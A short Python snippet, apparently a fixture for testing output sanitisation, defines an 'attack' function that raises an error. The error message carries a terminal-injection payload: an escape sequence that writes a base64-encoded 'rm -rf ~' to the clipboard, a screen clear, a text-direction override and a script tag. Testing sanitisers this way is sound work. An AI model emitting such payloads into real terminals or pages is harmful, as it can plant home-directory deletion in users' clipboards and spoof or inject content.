# contained: error. off: not shown, for the judge cleans what it shows and it is no layer
def attack(target):
    raise ValueError("\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x9b31m\u202e<script>")
